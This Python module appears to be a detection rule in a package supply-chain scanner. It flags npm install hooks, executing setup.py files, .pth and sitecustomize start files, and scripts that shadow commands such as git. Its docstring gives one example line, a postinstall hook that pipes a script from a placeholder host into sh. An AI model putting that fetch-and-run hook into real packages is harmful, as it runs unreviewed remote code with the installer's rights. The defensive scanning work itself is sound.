"""Code of the package runs while it is installed, or at every start of the interpreter.

**What.**

- npm: the hooks `preinstall`, `install` and `postinstall`, `prepare` where the package comes from git,
  and the `node-gyp rebuild` that npm adds by itself where a `binding.gyp` lies in the root. The command
  is shown, and the script that it starts is read: one that downloads and starts something, runs decoded
  text or code from the command line is critical; known builders of native code are low, known developer
  helpers only noted.
- Python: a `setup.py` that does more than describe the package (it runs when there is no wheel), a build
  backend that lies in the package itself, and `.pth` files, `sitecustomize` and `usercustomize`, which
  every start of that Python runs, whether or not the package is used.
- Either: a script that is installed under the name of another program, such as `git` or `python`.

**Why.** What runs at installation runs before anybody could look at the server's tools, with
the rights of the person who installs, and usually without being seen. Most thefts in package indexes
start here.

**Example.** `"postinstall": "curl -s https://get.example/setup.sh | sh"`

**Left alone.** Scripts that only developers run (`build`, `test`, `prepublishOnly`; `prepare`, unless the
package comes from git); a `setup.py` that only describes the package or builds its extension, and any inside
a wheel; a `.pth` file that only names a folder; a program under the package's own name (`npm` in npm).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

import douane_signatures
from douane.detectors import _hooks, _setup
from douane.detectors._scripts import hooks, is_wheel, manifest, start_files
from douane.model import Confidence, Ecosystem, Severity, Where
from douane.rules import Evidence, Rule

if TYPE_CHECKING:
    from douane.syntax import Codebase

_DATA = "code/install.toml"


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield what of the package runs without being asked for."""
    if codebase.package.ecosystem is Ecosystem.NPM:
        for name, command in hooks(codebase).items():
            yield _hook(codebase, name, command)
    else:
        yield from _starts(codebase)
        if not is_wheel(codebase):
            yield from _setup.look(codebase)
    yield from _shadowing(codebase)


def _hook(codebase: Codebase, name: str, command: str) -> Evidence:
    severity, why = _hooks.judge(codebase, command)
    listed = manifest(codebase).get("scripts")
    implied = not isinstance(listed, dict) or name not in listed
    return Evidence(
        where=Where(path="binding.gyp", line=1) if implied else _in_manifest(codebase, "scripts", name),
        excerpt=f"{name}: {command}",
        why=why,
        severity=severity,
    )


def _in_manifest(codebase: Codebase, section: str, key: str) -> Where:
    """Return the line of package.json where *key* stands in *section*."""
    source = codebase.tree.get("package.json") or b""
    at = source.find(b'"' + key.encode() + b'"', max(source.find(b'"' + section.encode() + b'"'), 0))
    return Where(path="package.json", line=source.count(b"\n", 0, at) + 1 if at >= 0 else 1)


def _starts(codebase: Codebase) -> Iterator[Evidence]:
    known = douane_signatures.table(_DATA)["python"]["known_start"]
    for path, line, text in start_files(codebase):
        expected = any(item["package"] == codebase.package.name and item["line"] in text for item in known)
        yield Evidence(
            where=Where(path=path, line=line),
            excerpt=text,
            why="every start of this Python runs this line, whether or not the package is used",
            severity=Severity.LOW if expected else Severity.CRITICAL,
            confidence=Confidence.HIGH,
            remedy="Do not install this package; look for the file in site-packages if it was installed.",
        )


def _shadowing(codebase: Codebase) -> Iterator[Evidence]:
    """Yield scripts that take the name of a program which users expect to come from elsewhere."""
    data = douane_signatures.table(_DATA)["shadowed"]
    shadowed, owners = frozenset(data["commands"]), data["owners"]
    for where, name, target in _installed_commands(codebase):
        if name in shadowed and codebase.package.name.rpartition("/")[2] not in {name, owners.get(name)}:
            yield Evidence(
                where=where,
                excerpt=f"{name} -> {target}",
                why=f"it installs a program under the name of {name}, which may then be started instead",
                severity=Severity.HIGH,
                confidence=Confidence.MEDIUM,
            )


def _installed_commands(codebase: Codebase) -> Iterator[tuple[Where, str, str]]:
    if codebase.package.ecosystem is Ecosystem.NPM:
        listed = manifest(codebase).get("bin")
        if isinstance(listed, dict):
            for name, target in sorted(listed.items()):
                yield _in_manifest(codebase, "bin", name), name, str(target)
        return
    for path in codebase.tree:
        parts = path.split("/")
        if len(parts) == 3 and parts[0].endswith(".data") and parts[1] == "scripts":
            yield Where(path=path, line=1), parts[2], path
        elif len(parts) == 2 and parts[0].endswith(".dist-info") and parts[1] == "entry_points.txt":
            text = codebase.tree[path][:100_000].decode("utf-8", "replace")
            _, _, section = text.partition("[console_scripts]")
            for line in section.partition("\n[")[0].splitlines():
                name, _, target = line.partition("=")
                yield Where(path=path), name.strip(), target.strip()


RULE = Rule(
    id="install-script",
    summary="code of the package runs while it is installed",
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    row="supply.code",
    remedy="Install without scripts (--ignore-scripts, --only-binary :all:), or read the script first.",
    taxonomy=("MCP04:2025", "SAFE-T1002", "SAFE-T1006", "AML.T0011.001"),
    code=look,
)
